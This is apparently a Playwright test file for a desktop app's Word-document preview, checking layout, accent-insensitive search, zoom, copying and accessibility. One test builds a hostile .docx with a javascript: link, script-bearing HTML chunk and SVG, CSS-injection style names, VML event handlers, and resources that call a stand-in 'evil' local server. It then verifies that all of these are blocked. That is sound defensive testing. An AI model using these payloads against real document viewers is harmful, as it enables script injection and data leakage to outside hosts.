/** A Word document by its look: laid out, searched, zoomed; and a hostile one that reaches nothing, policy in force. */
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import JSZip from 'jszip';
import type { FrameLocator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { look, RoomsWindow } from './rooms';
import { axe, overflows, picture, type Opening } from './window';

const window = new RoomsWindow();
beforeAll(() => window.start());
afterAll(() => window.stop());
afterEach(() => window.closePages());

const SANDBOX = fileURLToPath(new URL('../../src-tauri/sandbox/assets/files/', import.meta.url));
const draft = readFileSync(join(SANDBOX, 'du-thao-giay-phep.docx'));

/** Opens a docx of these bytes: the program hands it over as it is, without what its worker would take away. */
async function lookAt(bytes: Uint8Array, opening: Opening = {}) {
  const base64 = Buffer.from(bytes).toString('base64');
  const before = (page: Page) =>
    page.evaluate((text) => {
      const whole = Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));
      Object.assign(globalThis.window.program.answers, { preview_letter: () => whole.buffer });
    }, base64);
  const opened = await look(window, 'f2', { name: 'Đơn đề nghị.docx', before, opening });
  const frame = opened.page.frameLocator('.preview iframe');
  return { ...opened, frame };
}

/** The driver's own scripts are refused in the frame too, and the browser says so each time. */
const own = (faults: string[]) =>
  faults.filter((fault) => !fault.includes("Blocked script execution in 'about:srcdoc'"));

/** With a frame in it, axe takes the window behind the open dialog for one that can be reached. */
const findings = async (page: Page) => (await axe(page)).filter((found) => !found.startsWith('landmark-'));

const paper = (frame: FrameLocator) => frame.locator('section.docx').first();

it('a draft is laid out as a page, with its tables and its bold letters', async () => {
  const { page, frame, faults } = await lookAt(draft);
  await paper(frame).waitFor();
  await expect
    .poll(() => page.locator('.preview iframe').evaluate((one) => getComputedStyle(one).visibility))
    .toBe('visible');
  const sheet = await paper(frame).boundingBox();
  const room = await page.locator('.preview iframe').boundingBox();
  // A page of paper, as wide as there is room, nothing cut off.
  expect(sheet!.width).toBeGreaterThan(room!.width * 0.6);
  expect(sheet!.x).toBeGreaterThanOrEqual(room!.x);
  expect(sheet!.x + sheet!.width).toBeLessThanOrEqual(room!.x + room!.width);
  const bold = paper(frame)
    .locator('span')
    .filter({ hasText: /CỘNG H[ÒO]/ })
    .first();
  await bold.waitFor();
  await picture(page, 'preview/letter');
  expect(await findings(page)).toEqual([]);
  expect(own(faults)).toEqual([]);
});

it('words are found in it whatever their accents, zoomed, marked and copied', async () => {
  const { page, frame, faults } = await lookAt(draft);
  await paper(frame).waitFor();
  await page.getByRole('button', { name: 'Tìm trong tệp' }).click();
  const field = page.getByRole('textbox', { name: 'Tìm trong tệp' });
  await field.fill('cong hoa xa hoi');
  await page.getByText('1 / 1', { exact: true }).waitFor();
  const marked = await page.locator('.preview iframe').evaluate((one) => {
    const realm = (one as HTMLIFrameElement).contentWindow as Window & typeof globalThis;
    return [...(realm.CSS.highlights.get('chosen') ?? [])].map(String).join('');
  });
  expect(marked).toMatch(/CỘNG H[ÒO]/);
  await picture(page, 'preview/letter-find');
  await field.press('Escape');
  const before = (await paper(frame).boundingBox())!.width;
  await page.getByRole('button', { name: 'Phóng to' }).click();
  await expect.poll(async () => (await paper(frame).boundingBox())!.width).toBeGreaterThan(before);
  // Keys within the frame mean what they mean around it.
  await paper(frame).click();
  await page.keyboard.press('0');
  await expect.poll(async () => Math.abs((await paper(frame).boundingBox())!.width - before)).toBeLessThan(2);
  await page.keyboard.press('Control+a');
  await page.keyboard.press('Control+c');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toMatch(/CỘNG H[ÒO]/);
  expect(own(faults)).toEqual([]);
});

it.each([
  ['dark', { dark: true, width: 1920, height: 1080, scenario: { theme: 'dark' as const } }],
  ['at 200 %', { zoom: 2 }],
])('a letter is whole %s', async (label, opening) => {
  const { page, frame } = await lookAt(draft, opening);
  await paper(frame).waitFor();
  await picture(page, `preview/letter-${label.split(/\W/)[0]}`);
  expect(await overflows(page)).toBe(false);
  expect(await findings(page)).toEqual([]);
});

/** The computer that a hostile letter would like to reach: it notes whoever comes. */
const visitors: string[] = [];
const stranger = createServer((request, response) => {
  visitors.push(request.url ?? '');
  response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
});
let EVIL = '';
beforeAll(async () => {
  await new Promise<void>((listening) => stranger.listen(0, '127.0.0.1', listening));
  EVIL = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/evil`;
});
afterAll(() => stranger.close());

/** Everything that a document could call out with, in one. */
async function hostile(): Promise<Uint8Array> {
  const zip = new JSZip();
  const type = (name: string) =>
    `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
  const relation = (id: string, name: string, target: string, mode = 'TargetMode="External"') =>
    `<Relationship Id="${id}" Type="${type(name)}" Target="${target}" ${mode}/>`;
  const relations = (inside: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`;
  zip.file(
    '[Content_Types].xml',
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="svg" ContentType="image/svg+xml"/></Types>',
  );
  zip.file('_rels/.rels', relations(relation('r', 'officeDocument', 'word/document.xml', '')));
  zip.file(
    'word/_rels/document.xml.rels',
    relations(
      [
        relation('link', 'hyperlink', 'javascript:parent.hacked=1'),
        relation('remote', 'image', `${EVIL}.png`),
        relation('svg', 'image', 'media/a.svg', ''),
        relation('chunk', 'aFChunk', 'chunk.htm', ''),
        relation('styles', 'styles', 'styles.xml', ''),
      ].join(''),
    ),
  );
  zip.file(
    'word/chunk.htm',
    `<script>parent.hacked=2;fetch('${EVIL}/chunk')</script><img src="${EVIL}/chunk.png">`,
  );
  zip.file(
    'word/media/a.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hacked=3"><image href="${EVIL}/svg.png"/><script>parent.hacked=4</script></svg>`,
  );
  // A name of a style that breaks out of its rule, and a font that would be fetched.
  zip.file(
    'word/styles.xml',
    `<w:styles xmlns:w="w"><w:style w:type="paragraph" w:styleId="x{} @import url(${EVIL}/style.css); body{background:url(${EVIL}/bg.png)} a"><w:name w:val="x"/><w:rPr><w:rFonts w:ascii="a';} @font-face{font-family:f;src:url(${EVIL}/f.woff)} *{font-family:f;background:url(${EVIL}/b2.png)} x{a:'"/></w:rPr></w:style></w:styles>`,
  );
  const drawing = (id: string) =>
    `<w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:embed="${id}"/></pic:blipFill><pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`;
  zip.file(
    'word/document.xml',
    `<w:document xmlns:w="w" xmlns:r="r" xmlns:wp="wp" xmlns:a="a" xmlns:pic="pic" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>
      <w:p><w:r><w:t>&lt;script&gt;parent.hacked=5&lt;/script&gt; Kính gửi</w:t></w:r></w:p>
      <w:p><w:hyperlink r:id="link"><w:r><w:t>bấm vào đây</w:t></w:r></w:hyperlink></w:p>
      <w:p><w:r>${drawing('remote')}</w:r><w:r>${drawing('svg')}</w:r></w:p>
      <w:p><w:r><w:pict><v:rect onclick="parent.hacked=6" onload="parent.hacked=7" style="background:url(${EVIL}/vml.png);width:50pt;height:50pt" href="javascript:parent.hacked=8"><v:imagedata r:id="remote" src="${EVIL}/vml2.png"/></v:rect></w:pict></w:r></w:p>
      <w:altChunk r:id="chunk"/>
      <w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>
    </w:body></w:document>`,
  );
  return zip.generateAsync({ type: 'uint8array' });
}

it('a hostile letter reaches nothing: no request, no script, no way out of its frame', async () => {
  const { page, frame } = await lookAt(await hostile());
  await frame.getByText('Kính gửi').waitFor();
  await page.locator('.preview iframe').evaluate((one) => getComputedStyle(one).visibility);
  await frame.getByText('bấm vào đây').click();
  await picture(page, 'preview/letter-hostile');
  // The frame could not: no script, and a policy of its own beside the window's.
  const said = await page.locator('.preview iframe').evaluate(async (one, evil) => {
    const inner = one as HTMLIFrameElement;
    const document = inner.contentDocument!;
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    const image = document.createElement('img');
    const loaded = new Promise((done) => {
      image.onload = () => done('loaded');
      image.onerror = () => done('refused');
    });
    image.src = `${evil}/probe.png`;
    document.body.append(image);
    const script = document.createElement('script');
    script.textContent = 'parent.hacked = 9';
    document.body.append(script);
    const framed = document.createElement('iframe');
    framed.src = `${evil}/frame.html`;
    document.body.append(framed);
    return { image: await loaded, refused, sandbox: inner.sandbox.value };
  }, EVIL);
  expect(said.image).toBe('refused');
  expect(said.refused).toContain('img-src');
  expect(said.sandbox).not.toContain('allow-scripts');
  expect(await page.evaluate(() => 'hacked' in globalThis.window)).toBe(false);
  expect(page.url()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
  // The stranger is there and can be reached; nobody came from the letter.
  expect(visitors).toEqual([]);
  await fetch(`${EVIL}/by-the-test`);
  expect(visitors).toEqual(['/evil/by-the-test']);
  const left = await page.locator('.preview iframe').evaluate((one, evil) => {
    const body = (one as HTMLIFrameElement).contentDocument!.querySelector('.docx-wrapper')!;
    return {
      addresses: body.outerHTML.includes(evil),
      links: body.querySelectorAll('[href], [onclick], [onload]').length,
    };
  }, EVIL);
  expect(left).toEqual({ addresses: false, links: 0 });
});

it('what the library cannot lay out is shown by its words, with a sentence', async () => {
  const { page } = await lookAt(new TextEncoder().encode('PK\u0003\u0004 kein Archiv'));
  await page.getByText('Không dựng được cách trình bày của tệp này').waitFor();
  await page.locator('.preview pre').getByText('Kính gửi: Sở Xây dựng').waitFor();
  await picture(page, 'preview/letter-words');
  expect(await findings(page)).toEqual([]);
});
